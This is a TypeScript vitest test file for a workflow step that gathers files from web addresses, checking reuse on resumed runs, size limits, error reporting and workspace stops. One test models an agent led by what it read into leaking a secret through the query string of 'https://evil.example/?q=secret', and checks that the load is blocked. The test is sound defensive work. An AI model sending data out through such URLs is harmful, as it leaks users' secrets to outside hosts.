import { expect, test } from 'vitest';
import { type CatalogueStep, type FileRef, type Gathering } from '#kit';
import type { Store } from '#store';
import { NotLoaded, type WebFiles } from '#upstream';
import type { FileStore } from './files.ts';
import { createGather, type Gathered } from './gathering.ts';

const step = {
  gather: async ({ addresses }: { addresses: string[] }, { fromAddress }: Gathering) => {
    const refs = [];
    for (const [at, address] of addresses.entries()) refs.push(await fromAddress(address, `addresses[${at}]`));
    return { addresses: refs };
  },
} as unknown as CatalogueStep;

/** A web on which each address holds a file of 100 MB, and what was loaded from it. */
const house = ({ stoppedAt = null }: { stoppedAt?: Date | null } = {}) => {
  const kept = new Map<string, FileRef>();
  const loaded: { address: string; maxBytes: number }[] = [];
  const keep = (gatheredFor: string): FileRef => {
    const file = { ref: `file_${kept.size}`, name: 'a', contentType: 'text/plain', size: 100 * 1024 * 1024 };
    kept.set(gatheredFor, file);
    return file;
  };
  const newFile = (gatheredFor: string) => ({ write: async () => {}, keep: async () => keep(gatheredFor) });
  const files = {
    of: () => ({ create: () => newFile(`nobody ${kept.size}`) }),
    gathered: async ({ gatheredFor }: { gatheredFor: string }) => kept.get(gatheredFor),
    gather: ({ gatheredFor }: { gatheredFor: string }) => newFile(gatheredFor),
  } as unknown as FileStore;
  const web = {
    load: async (address, { create, maxBytes, onAnswer }) => {
      loaded.push({ address, maxBytes });
      onAnswer({ from: 'https://a.example/a', status: 200 });
      if (address.includes('none')) throw new NotLoaded('a.example/none answered 404.');
      return create({ name: 'a', contentType: 'text/plain' }).keep();
    },
  } as WebFiles;
  const query = {
    select: () => query,
    where: () => query,
    executeTakeFirst: async () => ({ stopped_at: stoppedAt }),
  };
  const store = { of: () => ({ selectFrom: () => query }) } as unknown as Store;
  return { ...createGather({ store, files, web }), loaded };
};

const asked = (addresses: readonly string[], more: Partial<Gathered> = {}): Gathered => ({
  step,
  input: { addresses },
  workspaceId: 'ws_1',
  accountId: 'acc_1',
  endUserId: undefined,
  of: { runId: 'run_1', position: 0 },
  signal: new AbortController().signal,
  ...more,
});

test('a run that is resumed has what it had; another step, another run and a dry run load it themselves', async () => {
  const { anew, again, loaded } = house();
  const first = await anew(asked(['https://a.example/a']));
  expect(await anew(asked(['https://a.example/a']))).toEqual(first);
  expect(await again(asked(['https://a.example/a', 'https://a.example/b']))).toEqual({
    addresses: ['file_0', 'https://a.example/b'],
  });
  expect(loaded).toHaveLength(1);
  for (const within of [{ runId: 'run_1', position: 1 }, { runId: 'run_2', position: 0 }, undefined])
    expect(await anew(asked(['https://a.example/a'], { of: within }))).not.toEqual(first);
  expect(loaded).toHaveLength(4);
});

test('all that one step names has to share the size of one file', async () => {
  const { anew, loaded } = house();
  await anew(asked(['https://a.example/a', 'https://a.example/b']));
  expect(loaded.map(({ maxBytes }) => maxBytes / 1024 / 1024)).toEqual([150, 50]);
});

test('what cannot be had is refused by its place', async () => {
  const { anew } = house();
  await expect(anew(asked(['https://a.example/a', 'https://a.example/none?key=hush']))).rejects.toMatchObject({
    code: 'invalid_input',
    details: { fields: [{ field: 'addresses[1]', message: 'a.example/none answered 404.' }] },
  });
});

test('an agent that obeys what it reads tells nobody of it by the address it has loaded', async () => {
  const { anew, loaded } = house();
  const mayLoad = async (address: string) => !address.includes('?');
  const telling = anew(asked(['https://evil.example/?q=secret'], { mayLoad }));
  await expect(telling).rejects.toMatchObject({
    code: 'invalid_input',
    details: { fields: [{ field: 'addresses[0]' }] },
  });
  await expect(telling).rejects.not.toThrow('secret');
  expect(loaded).toEqual([]);
  expect(await anew(asked(['https://a.example/named'], { mayLoad }))).toEqual({ addresses: ['file_0'] });
});

test('nothing is loaded before the run is stored, nor while the workspace is stopped', async () => {
  const order: string[] = [];
  const { anew, loaded } = house();
  await anew(
    asked(['https://a.example/a'], {
      stored: async () => void order.push('stored'),
      onCall: ({ method, path }) => void order.push(`${method} ${path}`),
    }),
  );
  expect(order).toEqual(['stored', 'GET https://a.example/a']);
  expect(loaded).toHaveLength(1);

  const closed = house({ stoppedAt: new Date() });
  await expect(closed.anew(asked(['https://a.example/a']))).rejects.toMatchObject({ code: 'unavailable' });
  expect(closed.loaded).toEqual([]);
});
